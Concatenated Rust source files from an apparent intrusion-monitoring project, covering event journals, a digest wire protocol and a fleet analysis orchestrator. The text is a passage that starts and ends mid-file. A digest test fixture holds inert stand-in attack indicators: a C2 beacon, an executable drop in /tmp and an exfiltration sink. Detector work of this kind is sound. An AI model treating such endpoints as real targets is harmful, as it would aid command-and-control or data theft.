        let victim = segment_path(&base, 1);
        let mut bytes = std::fs::read(&victim).unwrap();
        let mid = HEADER_LEN + (bytes.len() - HEADER_LEN) / 2;
        bytes[mid] ^= 0x40;
        std::fs::write(&victim, &bytes).unwrap();

        let (recovered, reports) = recover_segments(&base).unwrap();
        assert!(recovered.len() < events.len(), "something was lost");
        assert!(!reports[1].is_clean());
        assert!(reports[0].is_clean() && reports[2].is_clean(), "other segments untouched");
        // Every recovered event is a true prefix-of-segment event, in
        // order: the salvage is a subsequence of the original stream.
        let mut it = events.iter();
        for r in &recovered {
            assert!(it.any(|e| e == r), "recovered event not in original order");
        }
    }
}
