//! Append-only event journals: record a live session's event stream
//! once, replay it through any policy offline.
//!
//! A journal is a [`wire`](crate::wire) stream with one extra layer of
//! framing: each event is preceded by its encoded length (varint), so a
//! reader can detect truncated tails and a future tool can skip records
//! without decoding them. The string-interning table spans the whole
//! journal — records must be read in order.

use std::io::{Read, Write};

use harrier::SecpertEvent;
use hth_core::{Secpert, Warning};
use secpert_engine::EngineError;

use crate::wire::{read_header, write_header, EventDecoder, EventEncoder, WireError, HEADER_LEN};

/// Writes an event journal to any [`Write`] sink.
pub struct JournalWriter<W: Write> {
    sink: W,
    encoder: EventEncoder,
    scratch: Vec<u8>,
    events: u64,
}

impl<W: Write> JournalWriter<W> {
    /// Starts a journal: writes the stream header immediately.
    ///
    /// # Errors
    ///
    /// Propagates sink write errors.
    pub fn new(mut sink: W) -> Result<JournalWriter<W>, WireError> {
        let mut header = Vec::with_capacity(HEADER_LEN);
        write_header(&mut header);
        sink.write_all(&header)?;
        Ok(JournalWriter { sink, encoder: EventEncoder::new(), scratch: Vec::new(), events: 0 })
    }

    /// Appends one event.
    ///
    /// # Errors
    ///
    /// Propagates sink write errors.
    pub fn append(&mut self, event: &SecpertEvent) -> Result<(), WireError> {
        self.scratch.clear();
        self.encoder.encode(event, &mut self.scratch);
        let mut frame = Vec::with_capacity(self.scratch.len() + 4);
        let mut len = self.scratch.len() as u64;
        loop {
            let byte = (len & 0x7f) as u8;
            len >>= 7;
            if len == 0 {
                frame.push(byte);
                break;
            }
            frame.push(byte | 0x80);
        }
        frame.extend_from_slice(&self.scratch);
        self.sink.write_all(&frame)?;
        self.events += 1;
        Ok(())
    }

    /// Events appended so far.
    pub fn events(&self) -> u64 {
        self.events
    }

    /// Flushes and returns the sink.
    ///
    /// # Errors
    ///
    /// Propagates sink flush errors.
    pub fn finish(mut self) -> Result<W, WireError> {
        self.sink.flush()?;
        Ok(self.sink)
    }
}

/// Reads an event journal from any [`Read`] source.
pub struct JournalReader<R: Read> {
    source: R,
    decoder: EventDecoder,
    frame: Vec<u8>,
}

impl<R: Read> JournalReader<R> {
    /// Opens a journal: reads and checks the stream header.
    ///
    /// # Errors
    ///
    /// [`WireError::BadMagic`] / [`WireError::BadVersion`] for foreign
    /// streams, i/o and truncation errors otherwise.
    pub fn new(mut source: R) -> Result<JournalReader<R>, WireError> {
        let mut header = [0u8; HEADER_LEN];
        source.read_exact(&mut header).map_err(|e| match e.kind() {
            std::io::ErrorKind::UnexpectedEof => WireError::Truncated,
            _ => WireError::Io(e),
        })?;
        read_header(&header)?;
        Ok(JournalReader { source, decoder: EventDecoder::new(), frame: Vec::new() })
    }

    /// Reads the next event; `Ok(None)` at a clean end of stream.
    ///
    /// # Errors
    ///
    /// Truncated frames, malformed payloads and i/o errors.
    pub fn next_event(&mut self) -> Result<Option<SecpertEvent>, WireError> {
        let len = match self.read_varint()? {
            Some(len) => len as usize,
            None => return Ok(None),
        };
        self.frame.resize(len, 0);
        self.source.read_exact(&mut self.frame).map_err(|e| match e.kind() {
            std::io::ErrorKind::UnexpectedEof => WireError::Truncated,
            _ => WireError::Io(e),
        })?;
        let (event, used) = self.decoder.decode(&self.frame)?;
        if used != len {
            // A frame with trailing garbage is as corrupt as a short one.
            return Err(WireError::Truncated);
        }
        Ok(Some(event))
    }

    /// Reads a varint byte-by-byte; `None` when the stream ends cleanly
    /// *before* the first byte.
    fn read_varint(&mut self) -> Result<Option<u64>, WireError> {
        let mut value = 0u64;
        let mut shift = 0u32;
        loop {
            let mut byte = [0u8; 1];
            match self.source.read(&mut byte) {
                Ok(0) if shift == 0 => return Ok(None),
                Ok(0) => return Err(WireError::Truncated),
                Ok(_) => {}
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
                Err(e) => return Err(WireError::Io(e)),
            }
            if shift >= 64 || (shift == 63 && byte[0] > 1) {
                return Err(WireError::VarintOverflow);
            }
            value |= u64::from(byte[0] & 0x7f) << shift;
            if byte[0] & 0x80 == 0 {
                return Ok(Some(value));
            }
            shift += 7;
        }
    }
}

impl<R: Read> Iterator for JournalReader<R> {
    type Item = Result<SecpertEvent, WireError>;

    fn next(&mut self) -> Option<Result<SecpertEvent, WireError>> {
        self.next_event().transpose()
    }
}

/// Replay failures: either the journal is bad or the policy is.
#[derive(Debug)]
pub enum ReplayError {
    /// The journal could not be decoded.
    Wire(WireError),
    /// The policy failed while re-processing an event.
    Policy(EngineError),
}

impl std::fmt::Display for ReplayError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ReplayError::Wire(e) => write!(f, "journal error: {e}"),
            ReplayError::Policy(e) => write!(f, "policy error: {e}"),
        }
    }
}

impl std::error::Error for ReplayError {}

impl From<WireError> for ReplayError {
    fn from(e: WireError) -> ReplayError {
        ReplayError::Wire(e)
    }
}

impl From<EngineError> for ReplayError {
    fn from(e: EngineError) -> ReplayError {
        ReplayError::Policy(e)
    }
}

/// Replays a journal through a Secpert instance, returning the warnings
/// in event order. The expert system sees exactly the event sequence the
/// live session produced, so a replay through an identically-configured
/// policy reproduces the live warning sequence.
///
/// # Errors
///
/// [`ReplayError`] on journal corruption or policy failures.
pub fn replay<R: Read>(
    mut reader: JournalReader<R>,
    secpert: &mut Secpert,
) -> Result<Vec<Warning>, ReplayError> {
    let mut warnings = Vec::new();
    while let Some(event) = reader.next_event()? {
        warnings.extend(secpert.process_event(&event)?);
    }
    Ok(warnings)
}

#[cfg(test)]
mod tests {
    use super::*;
    use harrier::{Origin, ResourceType, SourceInfo};

    fn event(i: u64) -> SecpertEvent {
        SecpertEvent::ResourceAccess {
            pid: 1,
            syscall: "SYS_open",
            resource: SourceInfo::new(ResourceType::File, format!("/tmp/f{}", i % 3)),
            origin: Origin::unknown(),
            time: i,
            frequency: 1,
            address: 0,
            proc_count: None,
            proc_rate: None,
            mem_total: None,
            server: None,
        }
    }

    #[test]
    fn write_read_round_trip() {
        let mut writer = JournalWriter::new(Vec::new()).unwrap();
        let events: Vec<SecpertEvent> = (0..10).map(event).collect();
        for e in &events {
            writer.append(e).unwrap();
        }
        assert_eq!(writer.events(), 10);
        let bytes = writer.finish().unwrap();
        let reader = JournalReader::new(&bytes[..]).unwrap();
        let decoded: Result<Vec<SecpertEvent>, WireError> = reader.collect();
        assert_eq!(decoded.unwrap(), events);
    }

    #[test]
    fn truncated_tail_is_an_error_not_a_clean_end() {
        let mut writer = JournalWriter::new(Vec::new()).unwrap();
        writer.append(&event(0)).unwrap();
        writer.append(&event(1)).unwrap();
        let bytes = writer.finish().unwrap();
        let mut reader = JournalReader::new(&bytes[..bytes.len() - 1]).unwrap();
        assert!(reader.next_event().unwrap().is_some());
        assert!(matches!(reader.next_event(), Err(WireError::Truncated)));
    }

    #[test]
    fn empty_journal_reads_cleanly() {
        let writer = JournalWriter::new(Vec::new()).unwrap();
        let bytes = writer.finish().unwrap();
        let mut reader = JournalReader::new(&bytes[..]).unwrap();
        assert!(reader.next_event().unwrap().is_none());
    }

    #[test]
    fn foreign_stream_is_rejected() {
        assert!(matches!(JournalReader::new(&b"ELF\x7f..."[..]), Err(WireError::BadMagic(_))));
        assert!(matches!(JournalReader::new(&b"HT"[..]), Err(WireError::Truncated)));
    }
}
