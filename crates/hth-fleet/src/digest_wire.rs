//! The shard→correlator digest protocol: [`SessionDigest`]s as a
//! CRC-framed, interned binary stream.
//!
//! Digest streams share the event wire's magic (`HTHW`) but carry their
//! own version byte ([`DIGEST_VERSION`], `0x44`, ASCII `D`) well clear
//! of the event-codec (1, 2) and journal-framing (1–3) ranges, so a
//! consumer handed an opaque `.hthj`-style file — `hth explain`, most
//! importantly — can dispatch on [`read_header_any`] alone: low version
//! bytes mean per-session events, `0x44` means fleet digests.
//!
//! Each digest is one frame, `[varint len][crc32][payload]`, the same
//! framing discipline as journal v2, so torn tails and bit rot are
//! detected per digest rather than poisoning the stream. String
//! interning (labels, endpoints, paths, rule names repeat heavily
//! across a fleet) spans frames exactly like the event codec's, so a
//! stream must be decoded in order by a single [`DigestDecoder`].

use std::collections::HashMap;

use hth_core::{DropIdentity, SessionDigest, Severity};

use crate::wire::{
    crc32, put_varint, read_header_any, write_header_versioned, Cursor, WireError, HEADER_LEN,
    MAX_FRAME_LEN,
};

/// Stream version byte marking a digest stream (vs. the 1/2 of raw
/// event streams and 1–3 of journals).
pub const DIGEST_VERSION: u8 = 0x44;

/// Encodes [`SessionDigest`]s into CRC-framed records. One encoder per
/// stream; decode in order with a single [`DigestDecoder`].
#[derive(Debug, Default)]
pub struct DigestEncoder {
    strings: HashMap<String, u64>,
}

impl DigestEncoder {
    /// A fresh encoder with an empty string table.
    pub fn new() -> DigestEncoder {
        DigestEncoder::default()
    }

    /// Appends one digest as a framed record.
    pub fn encode(&mut self, digest: &SessionDigest, out: &mut Vec<u8>) {
        let mut payload = Vec::with_capacity(64);
        put_varint(&mut payload, digest.session);
        self.put_str(&mut payload, &digest.label);
        put_varint(&mut payload, digest.events);
        put_varint(&mut payload, digest.warnings.len() as u64);
        for ((severity, rule), count) in &digest.warnings {
            payload.push(severity.level() as u8);
            self.put_str(&mut payload, rule);
            put_varint(&mut payload, *count);
        }
        put_varint(&mut payload, digest.beacons.len() as u64);
        for endpoint in &digest.beacons {
            self.put_str(&mut payload, endpoint);
        }
        put_varint(&mut payload, digest.drops.len() as u64);
        for drop in &digest.drops {
            self.put_str(&mut payload, &drop.path);
            payload.push(u8::from(drop.executable));
            put_varint(&mut payload, drop.content.len() as u64);
            for kind in &drop.content {
                self.put_str(&mut payload, kind);
            }
        }
        put_varint(&mut payload, digest.exfil.len() as u64);
        for (target, bytes) in &digest.exfil {
            self.put_str(&mut payload, target);
            put_varint(&mut payload, *bytes);
        }
        put_varint(out, payload.len() as u64);
        out.extend_from_slice(&crc32(&payload).to_le_bytes());
        out.extend_from_slice(&payload);
    }

    fn put_str(&mut self, out: &mut Vec<u8>, s: &str) {
        if let Some(idx) = self.strings.get(s) {
            put_varint(out, idx + 1);
            return;
        }
        put_varint(out, 0);
        put_varint(out, s.len() as u64);
        out.extend_from_slice(s.as_bytes());
        self.strings.insert(s.to_string(), self.strings.len() as u64);
    }
}

/// Decodes a stream produced by one [`DigestEncoder`], mirroring its
/// string table.
#[derive(Debug, Default)]
pub struct DigestDecoder {
    strings: Vec<String>,
}

impl DigestDecoder {
    /// A fresh decoder with an empty string table.
    pub fn new() -> DigestDecoder {
        DigestDecoder::default()
    }

    /// Decodes one framed digest from the front of `buf`; returns the
    /// digest and the number of bytes consumed.
    ///
    /// # Errors
    ///
    /// Any [`WireError`] on malformed input (including a per-frame
    /// [`WireError::Crc`] mismatch). The string table may have grown by
    /// then; discard the decoder after an error.
    pub fn decode(&mut self, buf: &[u8]) -> Result<(SessionDigest, usize), WireError> {
        let mut cur = Cursor { buf, pos: 0 };
        let len = cur.varint()?;
        if len > MAX_FRAME_LEN {
            return Err(WireError::FrameTooLarge(len));
        }
        let stored = u32::from_le_bytes(cur.take(4)?.try_into().expect("4 bytes"));
        let payload_start = cur.pos;
        let payload = cur.take(len as usize)?;
        let computed = crc32(payload);
        if stored != computed {
            return Err(WireError::Crc { stored, computed });
        }
        let consumed = cur.pos;
        let mut cur = Cursor { buf: &buf[payload_start..consumed], pos: 0 };
        let session = cur.varint()?;
        let label = self.get_str(&mut cur)?;
        let mut digest = SessionDigest::new(session, &label);
        digest.events = cur.varint()?;
        for _ in 0..cur.varint()? {
            let level = cur.byte()?;
            let severity =
                Severity::from_level(i64::from(level)).ok_or(WireError::BadSeverity(level))?;
            let rule = self.get_str(&mut cur)?;
            let count = cur.varint()?;
            *digest.warnings.entry((severity, rule)).or_insert(0) += count;
        }
        for _ in 0..cur.varint()? {
            let endpoint = self.get_str(&mut cur)?;
            digest.beacons.insert(endpoint);
        }
        for _ in 0..cur.varint()? {
            let path = self.get_str(&mut cur)?;
            let executable = cur.byte()? != 0;
            let n = cur.varint()? as usize;
            let mut content = Vec::with_capacity(n.min(16));
            for _ in 0..n {
                content.push(self.get_str(&mut cur)?);
            }
            digest.drops.insert(DropIdentity { path, executable, content });
        }
        for _ in 0..cur.varint()? {
            let target = self.get_str(&mut cur)?;
            let bytes = cur.varint()?;
            *digest.exfil.entry(target).or_insert(0) += bytes;
        }
        if cur.pos != cur.buf.len() {
            // A frame that passed its CRC but has trailing garbage was
            // produced by a different codec version; refuse it.
            return Err(WireError::Truncated);
        }
        Ok((digest, consumed))
    }

    fn get_str(&mut self, cur: &mut Cursor<'_>) -> Result<String, WireError> {
        let marker = cur.varint()?;
        if marker == 0 {
            let len = cur.varint()? as usize;
            let text = std::str::from_utf8(cur.take(len)?).map_err(WireError::Utf8)?;
            self.strings.push(text.to_string());
            return Ok(text.to_string());
        }
        self.strings.get(marker as usize - 1).cloned().ok_or(WireError::BadStringRef(marker - 1))
    }
}

/// Serialises digests as a complete stream: header + one frame each.
pub fn write_digest_stream(digests: &[SessionDigest]) -> Vec<u8> {
    let mut out = Vec::new();
    write_header_versioned(&mut out, DIGEST_VERSION);
    let mut encoder = DigestEncoder::new();
    for digest in digests {
        encoder.encode(digest, &mut out);
    }
    out
}

/// Parses a complete digest stream written by [`write_digest_stream`].
///
/// # Errors
///
/// [`WireError::BadVersion`] if the header is not a digest stream
/// (event streams and journals carry their own version bytes), any
/// other [`WireError`] on malformed frames.
pub fn read_digest_stream(buf: &[u8]) -> Result<Vec<SessionDigest>, WireError> {
    let version = read_header_any(buf)?;
    if version != DIGEST_VERSION {
        return Err(WireError::BadVersion(version));
    }
    let mut decoder = DigestDecoder::new();
    let mut pos = HEADER_LEN;
    let mut digests = Vec::new();
    while pos < buf.len() {
        let (digest, used) = decoder.decode(&buf[pos..])?;
        pos += used;
        digests.push(digest);
    }
    Ok(digests)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Vec<SessionDigest> {
        let mut a = SessionDigest::new(3, "bot-a");
        a.events = 40;
        *a.warnings.entry((Severity::High, "check_socket_execve".into())).or_insert(0) += 2;
        a.beacons.insert("c2.example:6667".into());
        a.drops.insert(DropIdentity {
            path: "/tmp/stage2".into(),
            executable: true,
            content: vec!["SOCKET".into()],
        });
        a.exfil.insert("sink.example:81".into(), 700);
        let mut b = SessionDigest::new(9, "bot-b");
        b.events = 12;
        // Repeats a's strings, exercising cross-frame back-references.
        b.beacons.insert("c2.example:6667".into());
        b.exfil.insert("sink.example:81".into(), 600);
        vec![a, b]
    }

    #[test]
    fn digests_round_trip() {
        let digests = sample();
        let stream = write_digest_stream(&digests);
        assert_eq!(read_digest_stream(&stream).unwrap(), digests);
    }

    #[test]
    fn encoding_is_deterministic_and_interns_repeats() {
        let digests = sample();
        assert_eq!(write_digest_stream(&digests), write_digest_stream(&digests));
        let mut encoder = DigestEncoder::new();
        let (mut first, mut second) = (Vec::new(), Vec::new());
        encoder.encode(&digests[0], &mut first);
        encoder.encode(&digests[0], &mut second);
        assert!(
            second.len() < first.len() / 2,
            "repeat encoding should collapse to back-references: {} vs {}",
            second.len(),
            first.len()
        );
    }

    #[test]
    fn event_streams_are_rejected_by_version() {
        let mut buf = Vec::new();
        crate::wire::write_header(&mut buf);
        assert!(matches!(read_digest_stream(&buf), Err(WireError::BadVersion(_))));
    }

    #[test]
    fn corruption_is_caught_per_frame() {
        let mut stream = write_digest_stream(&sample());
        let last = stream.len() - 1;
        stream[last] ^= 0x40;
        let err = read_digest_stream(&stream).unwrap_err();
        assert!(matches!(err, WireError::Crc { .. }), "{err}");
        // Torn tail.
        let torn = &stream[..stream.len() - 3];
        assert!(matches!(
            read_digest_stream(torn),
            Err(WireError::Truncated | WireError::Crc { .. })
        ));
    }
}
