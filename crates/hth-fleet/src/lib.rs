//! # hth-fleet — concurrent monitoring fleets over the event protocol
//!
//! The paper's architecture (§6.1.2, Figure 1) decouples Harrier (the
//! monitor) from Secpert (the analyst) with an event protocol. This
//! crate makes that protocol a real, concurrent, persistable stream:
//!
//! * [`wire`] — a compact versioned binary codec for
//!   [`harrier::SecpertEvent`] (varints, per-stream string interning,
//!   magic + version header),
//! * [`journal`] — append-only event journals over any `Write`/`Read`,
//!   so a live session is recorded once and replayed through any policy
//!   offline ([`journal::replay`]),
//! * [`pool`] — a sharded analyst pool: worker threads with private
//!   [`hth_core::Secpert`] engines, sessions hashed to shards, bounded
//!   queues with explicit [`pool::Backpressure`],
//! * [`fleet`] — an orchestrator running many workload sessions across
//!   threads, fanning events into the pool and aggregating a
//!   [`fleet::FleetReport`].

#![warn(missing_docs)]

pub mod fleet;
pub mod journal;
pub mod pool;
pub mod wire;

pub use fleet::{run_scenarios, warning_multiset, FleetConfig, FleetReport};
pub use journal::{replay, JournalReader, JournalWriter, ReplayError};
pub use pool::{AnalystPool, Backpressure, PoolConfig, PoolReport, SessionId, ShardStats};
pub use wire::{EventDecoder, EventEncoder, WireError};
