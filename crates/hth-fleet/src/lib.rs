//! # hth-fleet — concurrent monitoring fleets over the event protocol
//!
//! The paper's architecture (§6.1.2, Figure 1) decouples Harrier (the
//! monitor) from Secpert (the analyst) with an event protocol. This
//! crate makes that protocol a real, concurrent, persistable stream:
//!
//! * [`wire`] — a compact versioned binary codec for
//!   [`harrier::SecpertEvent`] (varints, per-stream string interning,
//!   magic + version header),
//! * [`journal`] — append-only event journals over any `Write`/`Read`,
//!   with per-frame CRC32 (v2), segment rotation, and a recovery scan
//!   that salvages every decodable frame from a corrupted file
//!   ([`journal::replay`], [`journal::recover`]),
//! * [`batch`] — the reusable [`EventBatch`] buffer both the analyst
//!   pool and the replay path move events in, so queue, span and sink
//!   crossings are paid per batch instead of per event,
//! * [`pool`] — a sharded, *supervised* analyst pool: worker threads
//!   with private [`hth_core::Secpert`] engines, sessions hashed to
//!   shards, bounded queues with explicit [`pool::Backpressure`], panics
//!   quarantined and engines respawned under a retry budget,
//! * [`fleet`] — an orchestrator running many workload sessions across
//!   threads, fanning events into the pool and aggregating a
//!   [`fleet::FleetReport`],
//! * [`faults`] — deterministic seeded fault injection
//!   ([`faults::FaultPlan`], `hth fleet --chaos-seed N`) so the whole
//!   failure model above is reproducible and testable.

#![warn(missing_docs)]

pub mod batch;
pub mod digest_wire;
pub mod faults;
pub mod fleet;
pub mod journal;
pub mod pool;
pub mod wire;

pub use batch::EventBatch;
pub use digest_wire::{
    read_digest_stream, write_digest_stream, DigestDecoder, DigestEncoder, DIGEST_VERSION,
};
pub use faults::{ConnectionFault, FaultPlan, JournalFault};
pub use fleet::{run_scenarios, warning_multiset, FleetConfig, FleetReport, WarningKey};
pub use journal::{
    recover, recover_segments, replay, replay_batched, replay_repair, replay_repair_batched,
    replay_segments, replay_segments_batched, segment_path, segment_paths, JournalReader,
    JournalWriter, RecoveryOutcome, RecoveryReport, ReplayError, SegmentedJournalWriter,
    JOURNAL_V1, JOURNAL_V2, JOURNAL_V3,
};
pub use pool::{AnalystPool, Backpressure, PoolConfig, PoolReport, SessionId, ShardStats};
pub use wire::{crc32, EventDecoder, EventEncoder, WireError, MAX_FRAME_LEN};
