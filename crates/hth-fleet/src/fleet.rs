//! The fleet orchestrator: run many workload sessions concurrently,
//! fan their event streams into a shared [`AnalystPool`], aggregate one
//! [`FleetReport`].
//!
//! This is the ROADMAP's production shape in miniature: monitoring
//! (sessions stepping VMs) and analysis (Secpert shards) are decoupled
//! by the event protocol, each side scaled by its own thread count.

use std::collections::{BTreeMap, VecDeque};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use harrier::TaintStats;
use hth_core::{
    CorrelateConfig, CorrelationReport, Correlator, SessionConfig, SessionDigest, Severity,
};
use hth_trace::MetricsSnapshot;
use hth_workloads::Scenario;
use secpert_engine::{EngineError, MatchStats};

use crate::pool::{AnalystPool, PoolConfig, SessionId, ShardStats};

/// Fleet sizing: how many analyst shards, how many session-runner
/// threads, and the per-session configuration.
#[derive(Clone, Debug)]
pub struct FleetConfig {
    /// Analyst pool shape.
    pub pool: PoolConfig,
    /// Session-runner threads (the monitoring side's parallelism).
    pub workers: usize,
    /// Configuration applied to every session. `analyze_inline` is
    /// forced off — analysis happens in the pool — and `record_events`
    /// off; the event stream lives in the queues, not in session memory.
    pub session: SessionConfig,
    /// Run the fleet correlator over the per-session digests after the
    /// pool drains (`hth fleet --correlate`). `None` skips correlation;
    /// the digests are collected either way.
    pub correlate: Option<CorrelateConfig>,
}

impl Default for FleetConfig {
    fn default() -> FleetConfig {
        FleetConfig {
            pool: PoolConfig::default(),
            workers: 4,
            session: SessionConfig::default(),
            correlate: None,
        }
    }
}

/// A warning multiset key: severity × rule.
pub type WarningKey = (Severity, String);

/// Aggregated outcome of a fleet run.
#[derive(Debug, Default)]
pub struct FleetReport {
    /// Sessions run to completion (including ones that produced faults).
    pub sessions: usize,
    /// Events submitted to the pool across all shards.
    pub submitted: u64,
    /// Events analysed across all shards.
    pub events: u64,
    /// Events evicted under [`crate::pool::Backpressure::DropOldest`].
    pub dropped: u64,
    /// Events quarantined after panicking an analyst.
    pub quarantined: u64,
    /// Events drained unanalysed by failed shards.
    pub discarded: u64,
    /// Fresh engines spawned after analyst panics.
    pub respawns: u32,
    /// One line per quarantined event (shard, event index, panic text).
    pub quarantine_log: Vec<String>,
    /// Wall-clock duration of the whole run (sessions + analysis drain).
    pub elapsed: Duration,
    /// Aggregate warning multiset: (severity, rule) → count.
    pub warning_counts: BTreeMap<WarningKey, usize>,
    /// Per-shard queue/drop/volume counters.
    pub shards: Vec<ShardStats>,
    /// Session-level failures (spawn errors, policy errors in setup).
    pub session_errors: Vec<String>,
    /// Shard-level engine failures.
    pub analyst_errors: Vec<String>,
    /// Match-network counters aggregated across every analyst engine
    /// (all-zero when the engines use the naive matcher).
    pub match_stats: MatchStats,
    /// Taint-store counters folded across every session's monitor.
    pub taint_stats: TaintStats,
    /// Per-session digests (session order), labelled with scenario ids
    /// — the facts the fleet correlator consumes.
    pub digests: Vec<SessionDigest>,
    /// The fleet correlator's verdict, when
    /// [`FleetConfig::correlate`] was set.
    pub correlation: Option<CorrelationReport>,
    /// Diagnostic bundles the shards' flight recorders captured
    /// (quarantines, watchdog overruns), shard order.
    pub bundles: Vec<std::sync::Arc<hth_trace::DiagnosticBundle>>,
}

impl FleetReport {
    /// Events analysed per wall-clock second.
    pub fn events_per_sec(&self) -> f64 {
        self.events as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }

    /// Total warnings across the fleet.
    pub fn warnings(&self) -> usize {
        self.warning_counts.values().sum()
    }

    /// Events that never reached an analysis (dropped + quarantined +
    /// discarded). Zero on a healthy, lossless run.
    pub fn lost(&self) -> u64 {
        self.dropped + self.quarantined + self.discarded
    }

    /// Renders the report as a human-readable block.
    pub fn render(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        let _ = writeln!(
            out,
            "fleet: {} sessions, {} events in {:.2?} ({:.0} events/sec), {} warnings",
            self.sessions,
            self.events,
            self.elapsed,
            self.events_per_sec(),
            self.warnings(),
        );
        for ((severity, rule), count) in self.warning_counts.iter().rev() {
            let _ = writeln!(out, "  {count:5}x [{severity}] {rule}");
        }
        if let Some(correlation) = &self.correlation {
            for line in correlation.render().lines() {
                let _ = writeln!(out, "  {line}");
            }
        }
        if self.lost() > 0 || self.respawns > 0 {
            let _ = writeln!(
                out,
                "  losses: {} of {} submitted ({} dropped, {} quarantined, {} discarded), {} respawns",
                self.lost(),
                self.submitted,
                self.dropped,
                self.quarantined,
                self.discarded,
                self.respawns,
            );
        }
        for (i, shard) in self.shards.iter().enumerate() {
            let _ = writeln!(
                out,
                "  shard {i}: {} events, {} warnings, queue high-water {}, dropped {}",
                shard.events, shard.warnings, shard.high_water, shard.dropped,
            );
        }
        for line in &self.quarantine_log {
            let _ = writeln!(out, "  quarantined: {line}");
        }
        for error in self.session_errors.iter().chain(&self.analyst_errors) {
            let _ = writeln!(out, "  error: {error}");
        }
        out
    }

    /// One unified metrics snapshot for the whole run: taint-store
    /// counters from every session's monitor (`hth_taint_*`),
    /// match-network counters from every analyst engine
    /// (`hth_match_*`), and pool/fleet pipeline counters
    /// (`hth_pool_*`, `hth_fleet_*`) — including a histogram of
    /// per-shard event volume.
    pub fn metrics(&self) -> MetricsSnapshot {
        let mut metrics = MetricsSnapshot::default();
        self.taint_stats.record_metrics(&mut metrics);
        self.match_stats.record_metrics(&mut metrics);
        metrics.add_counter("hth_fleet_sessions", self.sessions as u64);
        metrics.add_counter("hth_fleet_warnings", self.warnings() as u64);
        metrics.add_counter("hth_pool_submitted", self.submitted);
        metrics.add_counter("hth_pool_events", self.events);
        metrics.add_counter("hth_pool_dropped", self.dropped);
        metrics.add_counter("hth_pool_quarantined", self.quarantined);
        metrics.add_counter("hth_pool_discarded", self.discarded);
        metrics.add_counter("hth_pool_respawns", u64::from(self.respawns));
        for shard in &self.shards {
            metrics.observe("hth_pool_shard_events", shard.events);
            metrics.max_gauge("hth_pool_queue_high_water", shard.high_water as i64);
        }
        metrics.add_counter("hth_fleet_digests", self.digests.len() as u64);
        if let Some(correlation) = &self.correlation {
            metrics.add_counter("hth_fleet_correlator_warnings", correlation.warnings.len() as u64);
        }
        metrics
    }
}

/// Builds the aggregate multiset from per-warning data.
pub fn warning_multiset<'a>(
    warnings: impl IntoIterator<Item = &'a hth_core::Warning>,
) -> BTreeMap<WarningKey, usize> {
    let mut counts = BTreeMap::new();
    for warning in warnings {
        *counts.entry((warning.severity, warning.rule.clone())).or_default() += 1;
    }
    counts
}

/// Runs every scenario as one fleet session, events fanned into a
/// sharded analyst pool; blocks until both sides drain.
///
/// # Errors
///
/// Returns the policy error if any shard engine fails to build. Session
/// and analyst failures during the run are collected in the report.
pub fn run_scenarios(
    scenarios: Vec<Scenario>,
    config: &FleetConfig,
) -> Result<FleetReport, EngineError> {
    let started = Instant::now();
    let sessions = scenarios.len();
    let pool = Arc::new(AnalystPool::new(&config.pool, &config.session.policy)?);

    let jobs: Arc<Mutex<VecDeque<(SessionId, Scenario)>>> = Arc::new(Mutex::new(
        scenarios.into_iter().enumerate().map(|(i, s)| (i as SessionId, s)).collect(),
    ));
    let session_errors: Arc<Mutex<Vec<String>>> = Arc::new(Mutex::new(Vec::new()));
    let taint_totals: Arc<Mutex<TaintStats>> = Arc::new(Mutex::new(TaintStats::default()));

    let workers = config.workers.clamp(1, sessions.max(1));
    let mut runners = Vec::with_capacity(workers);
    for _ in 0..workers {
        let jobs = Arc::clone(&jobs);
        let pool = Arc::clone(&pool);
        let errors = Arc::clone(&session_errors);
        let taint = Arc::clone(&taint_totals);
        let mut session_config = config.session.clone();
        session_config.analyze_inline = false;
        session_config.record_events = false;
        let batch_size = config.pool.batch_size;
        runners.push(std::thread::spawn(move || loop {
            let job = jobs.lock().unwrap_or_else(PoisonError::into_inner).pop_front();
            let Some((sid, scenario)) = job else { return };
            match run_one(sid, &scenario, session_config.clone(), &pool, batch_size) {
                Ok(stats) => taint.lock().unwrap_or_else(PoisonError::into_inner).merge(&stats),
                Err(e) => errors
                    .lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .push(format!("{}: {e}", scenario.id)),
            }
        }));
    }
    let mut runner_errors = Vec::new();
    for (i, runner) in runners.into_iter().enumerate() {
        if runner.join().is_err() {
            runner_errors.push(format!("session runner {i} panicked"));
        }
    }

    let report = Arc::try_unwrap(pool)
        .unwrap_or_else(|_| unreachable!("all runners joined, pool has one owner"))
        .finish();
    let mut session_errors = Arc::try_unwrap(session_errors)
        .unwrap_or_default()
        .into_inner()
        .unwrap_or_else(PoisonError::into_inner);
    session_errors.extend(runner_errors);
    let mut analyst_errors = report.errors;
    let correlation = config.correlate.as_ref().map(|correlate_config| {
        let mut correlator = Correlator::new(correlate_config.clone());
        for digest in &report.digests {
            correlator.ingest(digest.clone());
        }
        correlator.correlate()
    });
    let correlation = match correlation {
        Some(Ok(report)) => Some(report),
        Some(Err(e)) => {
            analyst_errors.push(format!("correlator: {e}"));
            None
        }
        None => None,
    };
    Ok(FleetReport {
        sessions,
        submitted: report.submitted,
        events: report.events,
        dropped: report.dropped,
        quarantined: report.quarantined,
        discarded: report.discarded,
        respawns: report.respawns,
        quarantine_log: report.quarantine_log,
        elapsed: started.elapsed(),
        warning_counts: warning_multiset(&report.warnings),
        shards: report.shards,
        session_errors,
        analyst_errors,
        match_stats: report.match_stats,
        taint_stats: Arc::try_unwrap(taint_totals)
            .unwrap_or_default()
            .into_inner()
            .unwrap_or_else(PoisonError::into_inner),
        digests: report.digests,
        correlation,
        bundles: report.bundles,
    })
}

/// Runs one scenario session with its event stream tapped into the
/// pool; hands back the monitor's taint-store counters (the session is
/// dropped here, so this is their last chance to reach the report).
///
/// With `batch_size > 1` the tap buffers events and flushes them to the
/// pool through [`AnalystPool::submit_batch`] — one queue-lock crossing
/// per batch instead of per event — with a final flush after the
/// session ends. Order within the session is preserved, so analysis
/// results are identical to the per-event tap.
fn run_one(
    sid: SessionId,
    scenario: &Scenario,
    config: SessionConfig,
    pool: &Arc<AnalystPool>,
    batch_size: usize,
) -> Result<TaintStats, hth_core::SessionError> {
    pool.set_label(sid, scenario.id);
